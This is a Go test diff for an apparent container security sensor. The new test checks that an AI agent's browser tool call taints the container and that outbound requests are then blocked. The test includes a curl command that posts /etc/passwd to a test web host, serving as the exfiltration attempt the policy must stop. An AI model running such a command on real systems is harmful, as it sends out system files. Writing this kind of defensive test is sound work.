@@ -43,6 +43,7 @@ func TestBridge(t *testing.T) {
 		{"G22_git", (*fixture).git},
 		{"G23_web_fetch", (*fixture).webFetch},
 		{"G18_hooks", (*fixture).hooks},
+		{"G2_tool_call", (*fixture).toolCall},
 		{"restart", (*fixture).restart},
 	} {
 		t.Run(test.name, func(t *testing.T) { test.run(f, t) })
@@ -301,4 +302,23 @@ func (f *fixture) restart(t *testing.T) {
 	passes(t, bash(t, s, to.curl()))
 	f.sensor.Policy(t, strings.Replace(policy, "120", "121", 1))
 	passes(t, bash(t, s, to.curl()+"?2"))
+}
+
+// toolCall: the call of a browser tool taints before the tool is called, as the table of the policy says.
+func (f *fixture) toolCall(t *testing.T) {
+	s, to := f.guard(t), f.web(t)
+	passes(t, hook(t, s, "claude", "WebSearch", map[string]string{"query": "x"}))
+	if r := s.Run(t, "sh", "-c", to.curl()); r.Exit != 0 {
+		t.Errorf("clean: %s", r)
+	}
+	passes(t, hook(t, s, "claude", "mcp__browser__navigate", map[string]string{"url": "http://10.77.0.2/"}))
+	e := f.sensor.Event(t, func(e event.Event) bool { return e.Kind == event.Taint && e.Container.Name == s.Name })
+	if e.Change.Source != "tool" || len(e.Change.Set) != 1 || e.Change.Set[0] != "corruption" || !strings.Contains(e.Change.Why, "mcp__browser__navigate") {
+		t.Errorf("taint %+v", e.Change)
+	}
+	after := f.web(t)
+	if r := s.Run(t, "sh", "-c", after.curl()+" -d @/etc/passwd"); r.Exit == 0 {
+		t.Errorf("tainted: %s", r)
+	}
+	after.nothing(t)
 }
